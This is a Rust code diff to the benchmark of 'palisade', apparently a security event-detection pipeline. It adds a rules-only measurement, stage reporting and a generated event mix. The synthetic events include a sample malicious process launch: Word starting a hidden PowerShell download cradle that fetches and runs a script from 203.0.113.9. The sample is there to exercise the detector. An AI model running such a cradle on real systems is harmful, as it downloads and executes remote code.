@@ -84,7 +84,12 @@ pub struct BenchReport {
     pub events: usize,
     pub detections_per_run: usize,
     pub ceiling_per_second: f64,
+    /// Whether the anomaly model and the tracker ran in `full` and `half`.
+    pub model: bool,
+    pub tracker: bool,
     pub full: RunFigures,
+    /// Full load with rules and playbooks only.
+    pub rules_only: RunFigures,
     pub half: RunFigures,
 }
 
@@ -124,6 +129,22 @@ impl std::fmt::Display for BenchReport {
         )?;
         writeln!(
             f,
+            "  (stages after the rules: anomaly model {}, tracker {})",
+            if self.model {
+                "on"
+            } else {
+                "off (no model file)"
+            },
+            if self.tracker { "on" } else { "off" }
+        )?;
+        writeln!(
+            f,
+            "palisade, full load, rules only:            {:>9.0} events/s  ({:.0}% of the ceiling)",
+            self.rules_only.events_per_second,
+            self.rules_only.events_per_second / self.ceiling_per_second.max(1.0) * 100.0
+        )?;
+        writeln!(
+            f,
             "palisade, half load ({:.0} events/s offered): {:>9.0} events/s",
             self.half.offered_per_second.unwrap_or_default(),
             self.half.events_per_second
@@ -141,51 +162,24 @@ impl std::fmt::Display for BenchReport {
     }
 }
 
-/// A realistic mix of sensor events: 60% process starts, 25% connections, 10% DNS queries, 5%
-/// logins; one in `malicious_every` is an Office macro starting PowerShell with a download
-/// cradle. Each line holds the placeholder `"@ID@"` for its id.
+/// A realistic mix of sensor events: one day of the generated office fleet the shipped anomaly
+/// model was trained on (55% process starts, 25% connections, 15% DNS queries, 5% logins, see
+/// `anomaly::synth`), where one in `malicious_every` is replaced by an Office macro starting
+/// PowerShell with a download cradle. Each line holds the placeholder `"@ID@"` for its id.
 pub fn event_mix(count: usize, malicious_every: usize) -> Vec<String> {
-    let programs = [
-        "svchost.exe",
-        "chrome.exe",
-        "explorer.exe",
-        "msedge.exe",
-        "teams.exe",
-        "conhost.exe",
-        "git.exe",
-        "code.exe",
-    ];
-    let parents = ["services.exe", "explorer.exe", "userinit.exe", "chrome.exe"];
-    (0..count)
-        .map(|i| {
-            let h = i % 50;
+    crate::anomaly::synth::normal(count, 1, 42)
+        .into_iter()
+        .enumerate()
+        .map(|(i, mut event)| {
             if malicious_every > 0 && i % malicious_every == malicious_every / 2 {
-                return format!(
-                    r#"{{"type":"process_create","timestamp":{i},"id":"@ID@","host":"ws-{h}","pid":{pid},"ppid":4100,"name":"powershell.exe","parent_name":"WINWORD.EXE","cmdline":"powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"}}"#,
-                    pid = 1000 + i
-                );
+                event = serde_json::json!({
+                    "type": "process_create", "timestamp": event["timestamp"], "host": event["host"],
+                    "pid": 1000 + i, "ppid": 4100, "name": "powershell.exe", "parent_name": "WINWORD.EXE",
+                    "cmdline": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
+                });
             }
-            match i % 20 {
-                0..=11 => format!(
-                    r#"{{"type":"process_create","timestamp":{i},"id":"@ID@","host":"ws-{h}","pid":{pid},"ppid":4,"name":"{name}","parent_name":"{parent}","cmdline":"C:\\Program Files\\App\\app.exe --type=renderer","user":"CORP\\u{h}"}}"#,
-                    pid = 1000 + i,
-                    name = programs[i % programs.len()],
-                    parent = parents[i % parents.len()]
-                ),
-                12..=16 => format!(
-                    r#"{{"type":"network_connection","timestamp":{i},"id":"@ID@","host":"ws-{h}","pid":{pid},"name":"chrome.exe","remote_ip":"93.184.{a}.{b}","remote_port":443,"protocol":"tcp"}}"#,
-                    pid = 1000 + i,
-                    a = i % 250,
-                    b = i % 200
-                ),
-                17 | 18 => format!(
-                    r#"{{"type":"dns_query","timestamp":{i},"id":"@ID@","host":"ws-{h}","pid":{pid},"name":"svchost.exe","query_name":"cdn{i}.example.com"}}"#,
-                    pid = 1000 + i
-                ),
-                _ => format!(
-                    r#"{{"type":"login","timestamp":{i},"id":"@ID@","host":"srv-{h}","user":"u{h}","source_ip":"10.0.{h}.7","outcome":"success","method":"ssh-key"}}"#
-                ),
-            }
+            event["id"] = serde_json::json!("@ID@");
+            event.to_string()
         })
         .collect()
 }
@@ -415,6 +409,7 @@ async fn palisade_run(
     state_dir: &Path,
     lines: &Arc<Vec<String>>,
     rate: Option<f64>,
+    stages: crate::pipeline::Stages,
 ) -> Result<RunFigures, String> {
     let (stream, group) = ("palisade:bench:events", "palisade");
     let mut admin = connect(url).await?;
@@ -422,7 +417,8 @@ async fn palisade_run(
         .await
         .map_err(|e| e.to_string())?;
     let health = Arc::new(Health::default());
-    let store = StateStore::open(&state_dir.join(format!("bench-{}.db", rate.is_some())))
+    let name = format!("bench-{}-{}.db", rate.is_some(), stages.tracker.is_some());
+    let store = StateStore::open(&state_dir.join(name))
         .await
         .map_err(|e| e.to_string())?;
     // The real executor: every step's decision goes to the audit trail, as in `palisade run`.
@@ -463,6 +459,7 @@ async fn palisade_run(
         Intake::new(None),
         AlertFormat::Quiet,
         true,
+        stages,
     )?;
     let (trigger, shutdown) = Shutdown::new();
     let total = lines.len();
@@ -529,8 +526,29 @@ pub async fn pipeline(
     let lines = Arc::new(event_mix(options.events, options.malicious_every));
     tracing::info!(events = options.events, "measuring the Redis ceiling");
     let ceiling = ceiling(&options.redis_url, &lines).await?;
+    // Each run gets fresh stages: a tracker that has seen the previous run would not be
+    // measuring the same work.
+    let stages = || crate::pipeline::Stages::from_content(&content);
     tracing::info!("measuring palisade at full load");
-    let full = palisade_run(&options.redis_url, &content, state_dir, &lines, None).await?;
+    let full = palisade_run(
+        &options.redis_url,
+        &content,
+        state_dir,
+        &lines,
+        None,
+        stages()?,
+    )
+    .await?;
+    tracing::info!("measuring palisade at full load without the anomaly model and tracker");
+    let rules_only = palisade_run(
+        &options.redis_url,
+        &content,
+        state_dir,
+        &lines,
+        None,
+        crate::pipeline::Stages::none(),
+    )
+    .await?;
     let half_rate = full.events_per_second / 2.0;
     tracing::info!(rate = half_rate as u64, "measuring palisade at half load");
     let half = palisade_run(
@@ -539,13 +557,18 @@ pub async fn pipeline(
         state_dir,
         &lines,
         Some(half_rate),
+        stages()?,
     )
     .await?;
     Ok(BenchReport {
         events: options.events,
         detections_per_run: full.to_recorded.samples,
         ceiling_per_second: ceiling,
+        model: content.config.anomaly.enabled
+            && content.resolve(&content.config.anomaly.model).exists(),
+        tracker: content.config.tracker.enabled,
         full,
+        rules_only,
         half,
     })
 }
